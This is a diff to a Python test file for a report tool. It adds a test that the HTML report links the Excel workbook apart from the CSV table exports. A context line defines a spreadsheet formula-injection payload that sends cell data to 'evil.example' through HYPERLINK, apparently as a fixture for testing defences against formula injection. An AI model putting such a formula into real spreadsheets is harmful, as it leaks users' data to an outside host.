@@ -10,8 +10,11 @@ from pathlib import Path
 import duckdb
 import openpyxl
 import pytest
+from bs4 import BeautifulSoup
 
 from tests.reports.conftest import Health, Level, add_social_tables, insert_health
+from unsilo.reports.exports import existing_tables, export_run
+from unsilo.reports.render import render_report
 from unsilo.reports.workbook import WORKBOOK_NAME, write_workbook
 
 FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
@@ -71,3 +74,16 @@ def test_numbers_booleans_and_dates_are_typed(book, shop) -> None:
 def test_a_database_without_social_tables_leaves_that_sheet_out(con, shop, tmp_path) -> None:
     path = write_workbook(con, shop.current, tmp_path)
     assert openpyxl.load_workbook(path).sheetnames == ["findings", "pages", "trends"]
+
+
+def test_report_links_the_workbook_apart_from_the_table_files(con, shop, tmp_path) -> None:
+    out = tmp_path / "out"
+    write_workbook(con, shop.current, out)
+    export_run(con, shop.current, out, formats=("csv",))
+    report = render_report(con, shop.current, out / "report.html", out)
+    soup = BeautifulSoup(report.read_text(encoding="utf-8"), "html.parser")
+    link = soup.select_one("#workbook-link a")
+    assert link["href"] == f"exports/{shop.current}/{WORKBOOK_NAME}"
+    assert (out / link["href"]).is_file()
+    tables = [li["data-table"] for li in soup.select("#export-links li")]
+    assert sorted(tables) == sorted(existing_tables(con))  # the workbook is no table row
